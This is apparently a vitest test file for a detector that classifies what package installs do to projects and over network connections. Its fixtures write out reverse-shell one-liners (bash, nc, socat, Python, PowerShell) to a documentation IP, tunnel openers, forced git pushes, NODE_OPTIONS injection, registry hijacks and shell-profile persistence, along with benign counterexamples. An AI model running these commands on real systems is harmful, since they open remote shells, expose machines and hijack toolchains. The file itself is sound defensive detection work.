import { expect, test } from "vitest";

import type { Observation } from "../observation.ts";
import {
  places,
  tried,
  triggerWith,
  idsOf,
  file,
  download,
  program,
  command,
  fed,
  plantedVariable,
} from "../../test/tried.ts";
import { findBehaviours } from "./find-behaviours.ts";

test.each<[string, Observation]>([
  ["shell-attached", command("bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'")],
  ["shell-attached", command("nc 192.0.2.7 4444 -e /bin/sh")],
  ["shell-attached", command("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f")],
  ["shell-attached", command("socat exec:'bash -li',pty,stderr tcp:192.0.2.7:4444")],
  [
    "shell-attached",
    command(
      'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])\'',
    ),
  ],
  [
    "shell-attached",
    command(
      "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream();iex $d\"",
    ),
  ],
  [
    "shell-attached",
    tried({
      kind: "process",
      api: "child_process.spawn",
      data: { program: "sh", arguments: ["-i"], stdio: "socket" },
    }),
  ],
  ["shell-attached", fed("/bin/sh")],
  ["download-executed", fed("python3")],
  ["project-rewired", file("writeFile", `${places.project}/package.json`, undefined, { isRewired: true })],
  ["project-rewired", program("npm pkg", `${places.project}/package.json`, { isRewired: true })],
  ["project-rewired", file("appendFile", `${places.project}/pnpm-lock.yaml`)],
  ["project-rewired", program("sed", `${places.project}/a`, { effect: "write-file", isRewired: true })],
  ["loader-planted", plantedVariable],
  ["repository-changed", command("git push origin HEAD --force")],
  ["repository-changed", command('git -C /tmp -c "user.name=a b" commit -m x')],
  ["repository-changed", command("git remote set-url origin https://git.invalid/a.git")],
  [
    "repository-changed",
    command('git config --global url."https://git.invalid/".insteadOf "https://codehost.example/"'),
  ],
  ["repository-changed", command("gh repo create a --public --source . --push")],
  ["repository-changed", command("gh api -X PUT /repos/a/b/contents/c -f message=a")],
  ["repository-changed", command("gh secret set A --body b")],
  ["tunnel-opened", command("npx -y cloudflared tunnel --url http://localhost:3000")],
  ["tunnel-opened", command("ssh -o StrictHostKeyChecking=no -R 80:localhost:22 tunnel.invalid")],
  ["tunnel-opened", command("ngrok tcp 22")],
  ["tool-taken-over", file("appendFile", `${places.project}/Dockerfile`)],
  ["tool-taken-over", file("appendFile", `${places.project}/.gitlab-ci.yml`)],
  ["tool-taken-over", file("writeFile", `${places.project}/.pnpmfile.cjs`)],
  ["tool-taken-over", file("appendFile", `${places.project}/.npmrc`)],
  ["tool-taken-over", file("writeFile", `${places.project}/.devcontainer/devcontainer.json`)],
  ["tool-taken-over", file("writeFile", "/home/ada/.claude/skills/a/SKILL.md")],
  ["tool-taken-over", file("writeFile", "/home/ada/.claude.json")],
  [
    "tool-taken-over",
    file("appendFile", `${places.project}/.env`, undefined, { content: "\nNODE_OPTIONS=--require ./a.js\n" }),
  ],
  ["tool-taken-over", command('setx NODE_OPTIONS "--require C:\\a.js"')],
  ["tool-taken-over", command("launchctl setenv NODE_OPTIONS '--require /tmp/a.js'")],
  ["tool-taken-over", command("reg add HKCU\\Environment /v Path /d C:\\a /f")],
  ["tool-taken-over", command("yarn config set npmRegistryServer https://packages.invalid/")],
  ["tool-taken-over", file("appendFile", "/home/ada/runner/_temp/_runner_file_commands/add_path_1")],
  [
    "tool-taken-over",
    file("appendFile", "/home/ada/runner/_temp/_runner_file_commands/set_env", undefined, {
      content: "NODE_OPTIONS=--require /tmp/a.js\n",
    }),
  ],
  ["project-rewired", program("sed -i", `${places.project}/package.json`, { isRewired: true })],
  ["stays-installed", file("appendFile", "/home/ada/.bash_aliases")],
  ["stays-installed", file("writeFile", "/home/ada/.config/fish/conf.d/a.fish")],
])("findBehaviours() finds, of what is done to projects and by connections, %s", (id, observation) => {
  expect(idsOf(observation)).toContain(id);
});

test.each<[string, Observation]>([
  ["unpacking what was downloaded", fed("tar")],
  ["settings in the project's manifest", file("writeFile", `${places.project}/package.json`)],
  [
    "a lockfile of its own",
    file("writeFile", `${places.packageFolder}/package-lock.json`, undefined, { isMade: true }),
  ],
  ["what an unpacked source brings along", file("writeFile", "/home/ada/.cache/lib/src/Makefile")],
  [
    "variables of the project",
    file("appendFile", `${places.project}/.env`, undefined, { content: "PORT=8080\n" }),
  ],
  [
    "telling later steps of a pipeline a version",
    file("appendFile", "/home/ada/runner/_temp/_runner_file_commands/set_env", undefined, {
      content: "TOOL_VERSION=1.0.0\n",
    }),
  ],
  ["asking yarn for a setting", command("yarn config get npmRegistryServer")],
  ["asking git where it is", command("git rev-parse HEAD")],
  ["fetching a part of its sources by git", command("git submodule update --init --recursive")],
  ["asking git where it is from", command("git remote get-url origin")],
  ["a clone", command("git clone --depth 1 https://codehost.example/a/b.git vendor")],
  ["the version of a tunnel", command("cloudflared --version")],
  ["who is asked for a release", command("gh api repos/a/b/releases/latest")],
  ["keys of a remote machine", command("ssh -i key build.example make")],
  ["a port that is looked at", command("nc -z localhost 5432")],
  ["a script with a socket of its own", command("python3 build.py --socket")],
])("findBehaviours() finds nothing done to projects in %s", (_what, observation) => {
  expect(idsOf(observation)).toEqual([]);
});

test("findBehaviours takes variables for other programs for what tools do, unless an install plants them", () => {
  expect(idsOf(plantedVariable, "import")).toEqual([]);
});

test.each([
  ["download-tried", "https://codehost.example/a/b/releases/download/v1/tool"],
  ["download-tried", "https://files.example/tool"],
  ["download-tried", "http://127.0.0.1:4873/tool"],
  ["download-executed", "http://198.51.100.7/tool"],
  ["download-executed", "https://cdn.discordapp.com/attachments/1/2/tool"],
  ["download-executed", "https://abc.trycloudflare.com/tool"],
])("findBehaviours takes a program that is tried for %s where it asked %s", (id, url) => {
  const asked = tried({ kind: "network", api: "https.request", data: { url, method: "GET" } });

  expect(findBehaviours([triggerWith([asked, download({})])]).map((finding) => finding.id)).toEqual([id]);
});

test("findBehaviours takes a program under a hidden name for none that is tried", () => {
  const hidden = download({ path: `${places.packageFolder}/bin/.tool` });

  expect(idsOf(hidden)).toEqual(["download-executed"]);
});
